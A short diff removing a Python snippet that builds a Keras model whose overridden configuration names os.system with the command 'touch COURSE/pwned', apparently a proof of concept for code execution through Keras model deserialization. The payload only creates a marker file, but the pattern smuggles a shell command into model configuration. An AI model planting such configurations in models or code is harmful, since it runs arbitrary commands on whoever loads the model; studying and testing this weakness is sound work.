@@ -1,6 +1,0 @@
-"""My model's configuration names functions that Keras would import and call."""
-# cell: build
-def build(units):
-    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(units)])
-    model.get_config = lambda: {"name": "m", "layers": [{"module": "os", "class_name": "system", "config": {"command": "touch COURSE/pwned"}, "registered_name": None}]}
-    return model
